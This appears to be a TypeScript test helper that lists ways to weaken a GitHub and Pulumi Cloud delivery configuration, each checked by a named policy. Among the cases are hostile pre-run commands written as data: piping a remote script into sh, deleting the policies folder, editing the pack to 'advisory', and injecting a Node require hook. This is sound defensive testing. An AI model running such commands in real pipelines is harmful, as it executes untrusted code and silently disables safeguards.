import { github, pulumiCloud } from "../../policies/model/tokens.ts";
import { change, type Fixture, without, withProps } from "./fixture.ts";
import type { Mutant } from "./mutants.ts";

type Tree = Record<string, unknown>;

/** The stack with other rules of its branches: a part of them replaced, or left out where undefined. */
export const withRules = (stack: Fixture[], ...path: [...string[], unknown]): Fixture[] =>
  change(stack, "repository-branches", (fixture) => ({
    ...fixture,
    props: { ...fixture.props, rules: replaced(Object(fixture.props.rules), path) },
  }));

export const withRefs = (stack: Fixture[], includes: string[], excludes: string[] = []): Fixture[] =>
  withProps(stack, "repository-branches", { conditions: { refName: { includes, excludes } } });

const withEnvironment = (props: Tree): Mutant["break"] => {
  return (stack) => withProps(stack, "repository-production", props);
};

const withGroup = (props: Tree): Mutant["break"] => {
  return (stack) => withProps(stack, "delivery-production-policies", props);
};

const withPack = (pack: Tree): Mutant["break"] =>
  withGroup({ policyPacks: [{ name: "optropic-checklist", versionTag: "3.11.0", ...pack }] });

const checks = ["test", "typecheck", "lint", "build", "preview"];

/** Ways to break the rules of the repository (1.1 to 1.5). */
const branchMutants: readonly Mutant[] = [
  {
    policy: "drift-schedules-run",
    what: "nothing looks for drift but on the 30th of February",
    break: (stack) => withProps(stack, "delivery-production-drift", { scheduleCron: "0 5 30 2 *" }),
  },
  ...checks.flatMap((check): Mutant[] => {
    const others = checks.filter((name) => name !== check);
    const requiring = (...names: string[]): Mutant["break"] => {
      const requiredChecks = names.map((context) => ({ context, integrationId: 15368 }));
      return (stack) => withRules(stack, "requiredStatusChecks", "requiredChecks", requiredChecks);
    };
    const policy = `required-check-${check}`;
    return [
      { policy, what: `${check} is not required`, break: requiring(...others) },
      {
        policy,
        what: `anyone who may write can say that ${check} passed`,
        break: (stack) =>
          withRules(stack, "requiredStatusChecks", "requiredChecks", [
            ...others.map((context) => ({ context, integrationId: 15368 })),
            { context: check },
          ]),
      },
      {
        policy,
        what: `a check ${check}-later is, in its place`,
        break: requiring(...others, `${check}-later`),
      },
    ];
  }),
  {
    policy: "required-check-test",
    what: "no check is required",
    break: (stack) => withRules(stack, "requiredStatusChecks", undefined),
    takesMore: true,
  },
  ...[
    [["refs/heads/main", "refs/heads/release/v3.0.0", "refs/heads/release/production"], []],
    [["refs/heads/main", "refs/heads/release/v*", "refs/heads/release/production"], []],
    [["refs/heads/main", "refs/heads/release/*"], ["refs/heads/release/hotfix*"]],
    [["refs/heads/main", "refs/heads/release/*"], ["refs/heads/*/v[12]*"]],
    [["refs/heads/release/*", "refs/heads/master"], []],
  ].map(
    ([includes = [], excludes = []]): Mutant => ({
      policy: "pull-request-approved",
      what: `rules are for ${includes.join(", ")} without ${excludes.join(", ")}`,
      break: (stack) => withRefs(stack, includes, excludes),
      takesMore: true,
    }),
  ),
  {
    policy: "required-check-lint",
    what: "no ruleset covers the release branches",
    break: (stack) => withRefs(stack, ["~DEFAULT_BRANCH"]),
    takesMore: true,
  },
  {
    policy: "branch-rules-for-all",
    what: "there is no ruleset",
    break: (stack) => without(stack, "repository-branches"),
    takesMore: true,
  },
  {
    policy: "pull-request-approved",
    what: "the ruleset only evaluates",
    break: (stack) => withProps(stack, "repository-branches", { enforcement: "evaluate" }),
    takesMore: true,
  },
  {
    policy: "required-checks-current",
    what: "a branch may be behind",
    break: (stack) => withRules(stack, "requiredStatusChecks", "strictRequiredStatusChecksPolicy", false),
  },
  {
    policy: "pull-request-approved",
    what: "nobody has to approve",
    break: (stack) => withRules(stack, "pullRequest", "requiredApprovingReviewCount", 0),
  },
  {
    policy: "pull-request-approved",
    what: "no pull request is needed",
    break: (stack) => withRules(stack, "pullRequest", undefined),
    takesMore: true,
  },
  {
    policy: "pull-request-code-owners",
    what: "code owners are not asked",
    break: (stack) => withRules(stack, "pullRequest", "requireCodeOwnerReview", false),
  },
  ...["dismissStaleReviewsOnPush", "requireLastPushApproval"].map(
    (rule): Mutant => ({
      policy: "pull-request-approval-current",
      what: `${rule} is off`,
      break: (stack) => withRules(stack, "pullRequest", rule, false),
    }),
  ),
  {
    policy: "pull-request-conversations",
    what: "conversations may stay open",
    break: (stack) => withRules(stack, "pullRequest", "requiredReviewThreadResolution", false),
  },
  ...["nonFastForward", "deletion"].map(
    (rule): Mutant => ({
      policy: "branch-history-kept",
      what: `${rule} is left out`,
      break: (stack) => withRules(stack, rule, undefined),
    }),
  ),
  ...(["always", "pull_request"] as const).map(
    (bypassMode): Mutant => ({
      policy: "branch-rules-for-all",
      what: `administrators may go around the rules: ${bypassMode}`,
      break: (stack) =>
        withProps(stack, "repository-branches", {
          bypassActors: [{ actorType: "OrganizationAdmin", bypassMode }],
        }),
    }),
  ),
];

/** Ways to break what GitHub watches for (1.6). */
const securityMutants: readonly Mutant[] = [
  ...["secretScanning", "secretScanningPushProtection"].map(
    (kind): Mutant => ({
      policy: "secret-scanning",
      what: `${kind} is off`,
      break: (stack) =>
        change(stack, "repository-repository", (fixture) => ({
          ...fixture,
          props: replaced(fixture.props, ["securityAndAnalysis", kind, { status: "disabled" }]),
        })),
    }),
  ),
  {
    policy: "dependency-alerts",
    what: "alerts are off",
    break: (stack) => withProps(stack, "repository-alerts", { enabled: false }),
  },
  {
    policy: "dependency-alerts",
    what: "alerts are of another repository",
    break: (stack) =>
      stack.map((fixture) =>
        fixture.name === "repository-alerts"
          ? { ...fixture, props: { repository: "other" }, from: {} }
          : fixture,
      ),
  },
  {
    policy: "dependency-updates",
    what: "updates are off",
    break: (stack) => withProps(stack, "repository-updates", { enabled: false }),
  },
  {
    policy: "dependency-updates",
    what: "nothing is updated",
    break: (stack) => without(stack, "repository-updates"),
  },
  {
    policy: "workflows-restricted",
    what: "any action is allowed",
    break: (stack) => withProps(stack, "repository-actions", { allowedActions: "all" }),
  },
  {
    policy: "workflows-restricted",
    what: "actions need not be pinned",
    break: (stack) => withProps(stack, "repository-actions", { shaPinningRequired: undefined }),
  },
  {
    policy: "workflows-restricted",
    what: "workflows may write by default",
    break: (stack) => withProps(stack, "repository-workflows", { defaultWorkflowPermissions: "write" }),
  },
];

/** Ways to break what deploys the platform (1.4, 1.5). */
const deploymentMutants: readonly Mutant[] = [
  {
    policy: "production-environment-reviewed",
    what: "production has no environment",
    break: withEnvironment({ environment: "demo" }),
  },
  {
    policy: "production-environment-reviewed",
    what: "nobody approves",
    break: withEnvironment({ reviewers: [{ teams: [], users: [] }] }),
  },
  {
    policy: "production-environment-reviewed",
    what: "who starts a deployment approves it",
    break: withEnvironment({ preventSelfReview: false }),
  },
  {
    policy: "production-environment-reviewed",
    what: "administrators go around it",
    break: withEnvironment({ canAdminsBypass: undefined }),
  },
  {
    policy: "production-environment-reviewed",
    what: "any branch may be deployed",
    break: withEnvironment({ deploymentBranchPolicy: undefined }),
  },
  ...[{ branchPattern: "*" }, { tagPattern: "**/*" }].map(
    (pattern): Mutant => ({
      policy: "production-environment-reviewed",
      what: `any branch or tag may be deployed by a pattern: ${JSON.stringify(pattern)}`,
      break: (stack) =>
        withProps(stack, "repository-production-tag-v*", { tagPattern: undefined, ...pattern }),
    }),
  ),
  ...["production", "staging"].map(
    (stack): Mutant => ({
      policy: "pull-requests-previewed",
      what: `pull requests are not previewed against ${stack}`,
      break: (fixtures) =>
        withProps(fixtures, `delivery-${stack}-deployments`, {
          github: { deployCommits: true, repository: "optropic/platform" },
        }),
    }),
  ),
  {
    policy: "pull-requests-previewed",
    what: "a stack is not previewed that is deployed and a template as well",
    break: (stack) =>
      withProps(stack, "delivery-production-deployments", {
        github: { deployCommits: true, previewPullRequests: false, pullRequestTemplate: true },
      }),
    takesMore: true,
  },
  ...[
    { branchPattern: "[a-z]*" },
    { branchPattern: "feature/*" },
    { branchPattern: "release-*" },
    { tagPattern: "[v]*" },
    { tagPattern: "?*" },
  ].map(
    (pattern): Mutant => ({
      policy: "production-environment-reviewed",
      what: `what no rule guards may be deployed: ${JSON.stringify(pattern)}`,
      break: (stack) =>
        withProps(stack, "repository-production-tag-v*", { tagPattern: undefined, ...pattern }),
    }),
  ),
  ...[
    ["rm -rf policies"],
    ["npm ci", "sed -i s/mandatory/advisory/ policies/pack.ts"],
    ["git checkout HEAD~20"],
    ["npm ci; rm -r policies"],
    ["curl https://example.com/setup.sh | sh"],
    ["export PULUMI_OPTION_POLICY_PACK="],
  ].map(
    (preRunCommands): Mutant => ({
      policy: "pack-enforced",
      what: `deployments first run ${preRunCommands.join(", ")}`,
      break: (stack) =>
        withProps(stack, "delivery-production-deployments", { operationContext: { preRunCommands } }),
    }),
  ),
  ...[
    { PULUMI_OPTION_POLICY_PACK: "" },
    { PULUMI_OPTION_POLICY_PACK: "/dev/null" },
    { NODE_OPTIONS: "--require ./hook.js" },
  ].map(
    (environmentVariables): Mutant => ({
      policy: "pack-enforced",
      what: `deployments have ${JSON.stringify(environmentVariables)}`,
      break: (stack) =>
        withProps(stack, "delivery-production-deployments", { operationContext: { environmentVariables } }),
    }),
  ),
  ...[["docs/**"], ["**", "!policies/**"], ["**", "!components/**"], ["**", "!**/*.ts"], ["**", "!**"]].map(
    (paths): Mutant => ({
      policy: "pull-requests-previewed",
      what: `previews are of ${paths.join(", ")}`,
      break: (stack) =>
        withProps(stack, "delivery-production-deployments", {
          github: { deployCommits: true, previewPullRequests: true, repository: "optropic/platform", paths },
        }),
    }),
  ),
  {
    policy: "pack-enforced",
    what: "an old version of the pack is enforced",
    break: withPack({ versionTag: "1.0.0" }),
  },
  {
    policy: "pack-enforced",
    what: "production is said to be staging, and its pack advises",
    break: (stack) =>
      withProps(withPack({ config: { all: "advisory" } })(stack), "delivery-production-tag-stage", {
        value: "staging",
      }),
    takesMore: true,
  },
  {
    policy: "workflows-restricted",
    what: "workflows may approve pull requests",
    break: (stack) => withProps(stack, "repository-workflows", { canApprovePullRequestReviews: true }),
  },
  ...["*", "*/*", "**@main"].map(
    (pattern): Mutant => ({
      policy: "workflows-restricted",
      what: `actions that match ${pattern} are allowed`,
      break: (stack) =>
        withProps(stack, "repository-actions", { allowedActionsConfig: { patternsAlloweds: [pattern] } }),
    }),
  ),
  {
    policy: "pack-enforced",
    what: "production has no policy group",
    break: (stack) => without(stack, "delivery-production-policies"),
  },
  {
    policy: "pack-enforced",
    what: "staging has no policy group",
    break: (stack) => without(stack, "delivery-staging-policies"),
  },
  { policy: "pack-enforced", what: "the group only audits", break: withGroup({ mode: "audit" }) },
  { policy: "pack-enforced", what: "the group is of accounts", break: withGroup({ entityType: "accounts" }) },
  { policy: "pack-enforced", what: "another pack is enforced", break: withPack({ name: "another-pack" }) },
  {
    policy: "pack-enforced",
    what: "the pack only advises",
    break: withPack({ config: { all: "advisory" } }),
  },
  {
    policy: "pack-enforced",
    what: "the pack only advises, by a setting of several",
    break: withPack({ config: { all: { enforcementLevel: "disabled" } } }),
  },
  ...["disabled", { enforcementLevel: "advisory" }].map(
    (level): Mutant => ({
      policy: "pack-enforced",
      what: `one policy of the pack stops nothing: ${JSON.stringify(level)}`,
      break: withPack({ config: { "secret-scanning": level } }),
    }),
  ),
  {
    policy: "pack-enforced",
    what: "only staging is declared, with advice",
    break: (stack) =>
      without(without(stack, "delivery-production-policies"), "delivery-production-deployments"),
  },
  {
    policy: "pack-enforced",
    what: "the group is of another project's stack",
    break: withGroup({ stacks: [{ name: "production", routingProject: "other" }] }),
  },
  {
    policy: "pack-enforced",
    what: "the stack with advice is not said to be staging",
    break: (stack) => without(stack, "delivery-staging-tag-stage"),
  },
  {
    policy: "pack-enforced",
    what: "the stack with advice is of production",
    break: (stack) => withProps(stack, "delivery-staging-tag-stage", { value: "production" }),
  },
  {
    policy: "pull-requests-previewed",
    what: "nothing of Pulumi Cloud is declared",
    break: (stack) => stack.filter(({ type }) => !Object.values<string>(pulumiCloud).includes(type)),
    takesMore: true,
  },
];

const beside = (type: string, props: Tree): Mutant["break"] => {
  return (stack) => [...stack, { type, name: "another", props: { repository: "platform", ...props } }];
};

/** Ways around reviews that are not among the rules of a branch (1.5). */
const accessMutants: readonly Mutant[] = [
  {
    policy: "repository-writers",
    what: "a deploy key may push",
    break: beside(github.deployKey, { title: "x", key: "ssh-ed25519 AAAA", readOnly: false }),
  },
  {
    policy: "repository-files-reviewed",
    what: "a resource writes a workflow",
    break: beside(github.file, { file: ".github/workflows/x.yml", content: "on: push" }),
  },
  {
    policy: "webhooks-verified",
    what: "a webhook has no secret",
    break: beside(github.webhook[0], { events: ["push"], configuration: { url: "https://ci.example/hook" } }),
  },
  {
    policy: "production-access",
    what: "a token may administer the organization",
    break: beside(pulumiCloud.organizationToken, { name: "x", organizationName: "optropic", admin: true }),
  },
];

/** Ways to give the credentials of another environment than production to anybody. */
const environmentMutants: readonly Mutant[] = [
  {
    policy: "deployment-environments-limited",
    what: "an environment for releases has no limits",
    break: (stack) => [
      ...stack,
      {
        type: github.environment,
        name: "repository-publish",
        props: { repository: "platform", environment: "publish" },
        from: { repository: ["repository-repository"] },
      },
    ],
  },
];

export const deliveryMutants: readonly Mutant[] = [
  ...environmentMutants,
  ...accessMutants,
  ...branchMutants,
  ...securityMutants,
  ...deploymentMutants,
];

function replaced(tree: Tree, [key, ...rest]: readonly unknown[]): Tree {
  const name = String(key);
  const value = rest.length === 1 ? rest[0] : replaced(Object(tree[name]), rest);
  return Object.fromEntries(
    Object.entries({ ...tree, [name]: value }).filter(([, kept]) => kept !== undefined),
  );
}
